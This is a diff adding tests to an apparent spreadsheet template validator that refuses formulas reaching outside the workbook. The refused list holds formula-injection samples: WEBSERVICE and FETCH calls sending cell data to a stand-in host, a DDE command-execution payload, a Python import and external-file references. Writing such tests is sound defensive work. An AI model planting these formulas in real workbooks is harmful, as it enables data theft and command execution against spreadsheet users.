@@ -82,3 +82,57 @@ test("at most twenty faults are told", () => {
   const columns = Array.from({ length: 40 }, (_, index) => ({ id: `c${index}`, header: "", cell: 1 }));
   expect(readTemplate({ ...good, table: { name: "T", columns } }).faults).toHaveLength(20);
 });
+test.each([
+  '=_xlfn.WEBSERVICE("http://x/"&A1)',
+  '=_XLFN._xlws.WEBSERVICE("http://x/"&A1)',
+  '=LET(f,WEBSERVICE,f("http://x/"&A1))',
+  "=MAP(A1:A9,WEBSERVICE)",
+  "=MAP(A1:A9,_xleta.WEBSERVICE)",
+  "=LAMBDA(webservice,webservice(A1))(1)",
+  '=LET(fetch_it,1,FETCH("http://x/"&A1))',
+  '=LET(fetch,1,FETCH("http://x/"&A1))',
+  '=TRANSLATE(A1,"en","de")',
+  '=IMPORTTEXT("http://x/"&A1)',
+  '=IMPORTCSV("http://x/"&A1)',
+  '=COPILOT("send",A1:C9)',
+  '=PY("import os",1)',
+  '=INDIRECT("[other.xlsx]Sheet1!A1")',
+  "='file:///x'!A1",
+  "='http://x/[a.xlsx]Sheet1'!A1",
+  "='other.xlsx'!Name",
+  "=other.xlsx!Name",
+  "=[1]Sheet1!A1",
+  "=[other]Sheet1!A1",
+  "=CONTOSO.SEND(A1)",
+  '=INV.QTY(1234,"00012345678905")+CONTOSO.INV.SEND(A1)',
+  "=MYUDF(A1)",
+  "=MY_UDF(A1)",
+  '=cmd|"/c calc"!A1',
+  "=C{gtin}LL(A1)",
+  "={number}LL(A1)",
+  '=W{gtin}BSERVICE("http://x")',
+  "=A1.Price",
+])("%s is refused, whatever Excel comes to make of it", (cell) => {
+  const { faults } = readTemplate(withColumn(cell));
+  expect(faults?.[0]).toMatch(/reaches outside|another file|not among|within a word|needs an underscore/);
+});
+
+test.each([
+  '=IFNA(_xlfn.XLOOKUP(A{row},Rows[Store],Rows[Qty]),"WEBSERVICE(1) is text")',
+  '=_xlfn._xlws.FILTER($A$2:$C$9,($A$2:$A$9>0)*(B2:B9<>""))',
+  "=_xlfn.LET(_xlpm.total,SUM(A:A),_xlpm.total*2)",
+  '=LET(days,7,cover,{gtin}{row}/days,IF(cover>1E3,"many",ROUND(cover,1)))',
+  "=LET(add_one,LAMBDA(x,x+1),add_one(A1))",
+  "=BYROW(A1:C9,LAMBDA(r,SUM(r)))",
+  "=MAP(A1:A9,ABS)",
+  "=SUMIFS('Store list'!$B:$B,'Store list'!$A:$A,{number}{row})",
+  "=Planning!A1+'It''s mine'!B2",
+  "=INV.QTY(Stores_North,TRANSPOSE(Items_Top))",
+  "=SUM({number}{first}:{number}{last})-{gtin}{row}%",
+  "=[@Shelf]+Rows[[#Totals],[Qty]]",
+  "=IF(A1=#N/A,TRUE,{1,2;3,4})",
+  "=A1#",
+  "=LOG10(A1)+ATAN2(1,2)+CEILING.MATH(2.5)",
+])("%s is taken: it stays within the workbook", (cell) => {
+  expect(readTemplate(withColumn(cell)).faults).toBeNull();
+});
